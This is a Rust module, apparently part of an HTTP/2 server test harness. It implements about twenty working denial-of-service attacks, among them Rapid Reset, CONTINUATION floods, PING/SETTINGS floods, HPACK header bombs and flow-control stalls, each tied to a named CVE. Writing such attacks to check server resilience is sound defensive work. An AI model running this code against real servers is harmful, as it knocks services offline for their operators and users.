//! Attacks on the HTTP/2 of a server. Each is a client that sends at full speed what costs it
//! little and the server much, until the server ends the connection or the attack has sent what
//! it was asked to.
//!
//! They speak HTTP/2 by prior knowledge over plain TCP, so that the attacker is never slowed
//! down by its own cryptography.

use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::JoinHandle;

use super::frame::{Frame, code, flag, kind, setting};
use super::hpack::Block;
use super::{Client, PREFACE};
use crate::{DEADLINE, Peer};

/// An attack, by what it is made of.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Requests that are reset at once (CVE-2023-44487).
    RapidReset,
    /// Requests that make the server reset them, by a window increment of 0 (CVE-2025-8671).
    ResetByZeroWindow,
    /// The same by a window that becomes too large.
    ResetByWindowOverflow,
    /// The same by DATA after the end of the request.
    ResetByDataAfterEnd,
    /// The same by HEADERS after the end of the request.
    ResetByHeadersAfterEnd,
    /// The same by PRIORITY of a wrong length.
    ResetByPriorityLength,
    /// The same by a stream that depends on itself.
    ResetBySelfDependency,
    /// The same by a body shorter than declared.
    ResetByShortBody,
    /// Requests that are malformed (CVE-2019-9514).
    MalformedRequests,
    /// A header block that never ends, of small fields (CVE-2024-27316).
    Continuations,
    /// The same of fragments without an octet.
    EmptyContinuations,
    /// SETTINGS, each to be acknowledged (CVE-2019-9515).
    Settings,
    /// PING, each to be answered (CVE-2019-9512).
    Pings,
    /// DATA without an octet (CVE-2019-9518).
    EmptyData,
    /// DATA of one octet in each frame.
    TinyData,
    /// WINDOW_UPDATE by 1, of the connection.
    WindowByOne,
    /// PRIORITY of streams that do not exist (CVE-2019-9513).
    Priorities,
    /// Requests that repeat one large field of the dynamic table a thousand times.
    HeaderBomb,
    /// Requests of thousands of fields of no length to speak of.
    TinyFields,
    /// Requests whose cookie comes in thousands of crumbs.
    CookieCrumbs,
}

impl Attack {
    /// All of them.
    pub const ALL: &[Self] = &[
        Self::RapidReset,
        Self::ResetByZeroWindow,
        Self::ResetByWindowOverflow,
        Self::ResetByDataAfterEnd,
        Self::ResetByHeadersAfterEnd,
        Self::ResetByPriorityLength,
        Self::ResetBySelfDependency,
        Self::ResetByShortBody,
        Self::MalformedRequests,
        Self::Continuations,
        Self::EmptyContinuations,
        Self::Settings,
        Self::Pings,
        Self::EmptyData,
        Self::TinyData,
        Self::WindowByOne,
        Self::Priorities,
        Self::HeaderBomb,
        Self::TinyFields,
        Self::CookieCrumbs,
    ];

    /// Runs it on one connection, until the server ends it or `frames` were sent.
    ///
    /// # Panics
    /// When the server cannot be connected to.
    #[must_use]
    pub fn run(self, target: &Target, frames: u64) -> Report {
        self.run_while(target, |sent| sent < frames)
    }

    /// Runs it again and again, on a new connection whenever one was ended, until it is to stop.
    /// Returns how much was sent, and on how many connections.
    pub fn run_until(self, target: &Target, stop: &AtomicBool) -> (u64, u64) {
        let (mut sent, mut connections) = (0, 0);
        while !stop.load(Ordering::Relaxed) {
            let report = self.run_while(target, |_| !stop.load(Ordering::Relaxed));
            sent += report.sent;
            connections += 1;
        }
        (sent, connections)
    }

    fn run_while(self, target: &Target, mut more: impl FnMut(u64) -> bool) -> Report {
        let mut line = Line::connect(target.address);
        let mut script = Script { attack: self, block: target.block(), at: 0 };
        let mut sent = 0;
        line.write(&script.overture());
        while more(sent) && line.open {
            let mut batch = Vec::new();
            while batch.len() < 8 * 1024 {
                script.step().iter().for_each(|frame| {
                    batch.extend(frame.bytes());
                    sent += 1;
                });
            }
            line.write(&batch);
        }
        line.finish(sent, script.at, self.is_inside_a_block())
    }

    /// Whether no other frame can be sent behind it.
    fn is_inside_a_block(self) -> bool {
        matches!(self, Self::Continuations | Self::EmptyContinuations)
    }
}

/// Where an attack goes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Target {
    /// The listener.
    pub address: SocketAddr,
    /// The site.
    pub authority: String,
    /// What is asked for.
    pub path: String,
}

impl From<SocketAddr> for Target {
    fn from(address: SocketAddr) -> Self {
        Self { address, authority: "a".to_owned(), path: "/attack".to_owned() }
    }
}

impl Target {
    /// The pseudo-fields of a GET.
    fn block(&self) -> Block {
        Block::new()
            .indexed(2)
            .indexed(6)
            .literal(":path", &self.path)
            .literal(":authority", &self.authority)
    }
}

/// What came of an attack on one connection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Report {
    /// Frames handed to the socket; the server need not have read all of them.
    pub sent: u64,
    /// Requests among them.
    pub requests: u64,
    /// How it ended.
    pub end: End,
    /// Response heads that came back.
    pub responses: u64,
    /// RST_STREAM that came back.
    pub resets: u64,
}

/// How an attack on one connection ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum End {
    /// With GOAWAY for this reason, other than `NO_ERROR`.
    Goaway(u32),
    /// With the end of the connection.
    Closed,
    /// All was sent, and the server answered a PING behind it.
    Survived,
    /// The server neither read on nor ended the connection for the [`DEADLINE`].
    Stuck,
}

/// The frames of an attack, step by step.
struct Script {
    attack: Attack,
    block: Block,
    /// So many requests were begun.
    at: u64,
}

impl Script {
    /// What is sent once.
    fn overture(&mut self) -> Vec<u8> {
        let kept = |name: &str, length: usize| {
            let block = self.block.clone().keep(name, vec![b'a'; length]);
            vec![Frame::headers(1, block, true)]
        };
        let frames = match self.attack {
            Attack::Continuations | Attack::EmptyContinuations => {
                vec![Frame::headers(1, &self.block, true).without(flag::END_HEADERS)]
            }
            Attack::EmptyData | Attack::TinyData => {
                let block = self.block.clone();
                vec![Frame::headers(1, block, false)]
            }
            Attack::HeaderBomb => kept("x-large", 4000),
            Attack::TinyFields => kept("x", 0),
            Attack::CookieCrumbs => kept("cookie", 1),
            _ => return Vec::new(),
        };
        self.at = 1;
        frames.iter().flat_map(Frame::bytes).collect()
    }

    /// The next frames.
    fn step(&mut self) -> Vec<Frame> {
        match self.attack {
            Attack::RapidReset => self.request(|id| Frame::reset(id, code::CANCEL)),
            Attack::ResetByZeroWindow => self.request(|id| Frame::window_update(id, 0)),
            Attack::ResetByWindowOverflow => {
                self.request(|id| Frame::window_update(id, 0x7fff_ffff))
            }
            Attack::ResetByDataAfterEnd => self.request(|id| Frame::data(id, "x", true)),
            Attack::ResetByHeadersAfterEnd => {
                let again = self.block.clone();
                self.request(|id| Frame::headers(id, again, true))
            }
            Attack::ResetByPriorityLength => {
                self.request(|id| Frame::new(kind::PRIORITY, 0, id, [0; 4]))
            }
            Attack::ResetBySelfDependency => self.request(|id| Frame::priority(id, id, 1)),
            Attack::ResetByShortBody => {
                let block = self.block.clone().literal("content-length", "5");
                let id = self.next_stream();
                vec![Frame::headers(id, block, false), Frame::data(id, "abc", true)]
            }
            Attack::MalformedRequests => {
                let block = self.block.clone().literal("Upper", "x");
                vec![Frame::headers(self.next_stream(), block, true)]
            }
            Attack::Continuations => {
                vec![Frame::continuation(1, Block::new().literal("x", "y"), false)]
            }
            Attack::EmptyContinuations => vec![Frame::continuation(1, [], false)],
            Attack::Settings => vec![Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)])],
            Attack::Pings => vec![Frame::ping([0; 8])],
            Attack::EmptyData => vec![Frame::data(1, "", false)],
            Attack::TinyData => vec![Frame::data(1, "x", false)],
            Attack::WindowByOne => vec![Frame::window_update(0, 1)],
            Attack::Priorities => {
                self.at += 1;
                // None of these is opened.
                let idle = 0x4000_0001 + 2 * (self.index() % 0x1000_0000);
                vec![Frame::priority(idle, idle - 2, 1)]
            }
            Attack::HeaderBomb | Attack::TinyFields | Attack::CookieCrumbs => {
                // Each octet is the whole field that was kept.
                let many = vec![0xbe; 15_000];
                let block = self.block.clone().raw(many);
                vec![Frame::headers(self.next_stream(), block, true)]
            }
        }
    }

    /// A whole request, and a frame behind it.
    fn request(&mut self, then: impl FnOnce(u32) -> Frame) -> Vec<Frame> {
        let id = self.next_stream();
        vec![Frame::headers(id, &self.block, true), then(id)]
    }

    fn next_stream(&mut self) -> u32 {
        self.at += 1;
        2 * self.index() - 1
    }

    fn index(&self) -> u32 {
        u32::try_from(self.at).expect("an attack does not last that long")
    }
}

/// A connection that is written to at full speed, while a thread reads all that comes back.
struct Line {
    stream: TcpStream,
    reader: JoinHandle<Report>,
    open: bool,
}

/// The PING behind an attack.
const LAST: [u8; 8] = *b"the last";

impl Line {
    fn connect(address: SocketAddr) -> Self {
        let mut stream = TcpStream::connect_timeout(&address, DEADLINE).expect("connect");
        stream.set_write_timeout(Some(DEADLINE)).expect("timeout");
        stream.set_read_timeout(Some(DEADLINE)).expect("timeout");
        stream.set_nodelay(true).expect("nodelay");
        let greeting = [PREFACE, &Frame::settings(&[]).bytes()].concat();
        stream.write_all(&greeting).expect("greeting");
        let reading = stream.try_clone().expect("socket");
        let reader = std::thread::spawn(move || read(reading));
        Self { stream, reader, open: true }
    }

    fn write(&mut self, bytes: &[u8]) {
        // The reader sees the end as well, and what was said before it.
        self.open = self.stream.write_all(bytes).is_ok() && !self.reader.is_finished();
    }

    fn finish(mut self, sent: u64, requests: u64, inside_a_block: bool) -> Report {
        if !inside_a_block {
            self.write(&Frame::ping(LAST).bytes());
        }
        let report = self.reader.join().expect("reader");
        Report { sent, requests, ..report }
    }
}

/// Reads until the connection ends, or the answer to the last PING comes.
fn read(mut stream: TcpStream) -> Report {
    let (mut responses, mut resets, mut reason) = (0, 0, None);
    let end = loop {
        let frame = match read_frame(&mut stream) {
            Ok(frame) => frame,
            Err(error)
                if matches!(error.kind(), io::ErrorKind::WouldBlock | io::ErrorKind::TimedOut) =>
            {
                break End::Stuck;
            }
            Err(_) => break reason.map_or(End::Closed, End::Goaway),
        };
        match frame.kind {
            kind::HEADERS => responses += 1,
            kind::RST_STREAM => resets += 1,
            kind::GOAWAY if frame.u32_at(4) != code::NO_ERROR => reason = Some(frame.u32_at(4)),
            kind::PING if frame.has(flag::ACK) && frame.payload == LAST => break End::Survived,
            _ => {}
        }
    };
    Report { sent: 0, requests: 0, end, responses, resets }
}

fn read_frame(stream: &mut TcpStream) -> io::Result<Frame> {
    let mut bytes = vec![0; 9];
    stream.read_exact(&mut bytes)?;
    let length = u32::from_be_bytes([0, bytes[0], bytes[1], bytes[2]]) as usize;
    bytes.resize(9 + length, 0);
    stream.read_exact(&mut bytes[9..])?;
    let (frame, _) = Frame::parse(&bytes).expect("a whole frame");
    Ok(frame)
}

/// How a client keeps what it asked for from being sent.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Stall {
    /// Its streams have no window.
    Streams,
    /// The connection has none left.
    Connection,
    /// It opens the window of each stream by one octet at a time.
    Dribble,
}

/// Asks for so many responses on one connection and takes none of them: the client that is
/// returned has done so, and opens no window.
#[must_use]
pub fn stall(target: &Target, how: Stall, requests: u32) -> Client {
    let initial = if how == Stall::Connection { 0x7fff_ffff } else { 0 };
    let settings = [(setting::INITIAL_WINDOW_SIZE, initial)];
    let mut client = Client::greet(Peer::connect(target.address), &settings);
    client.habits.open_windows = false;
    for _ in 0..requests {
        let stream = client.take_stream();
        client.send(&Frame::headers(stream, target.block(), true));
        if how == Stall::Dribble {
            client.send(&Frame::window_update(stream, 1));
        }
    }
    client
}
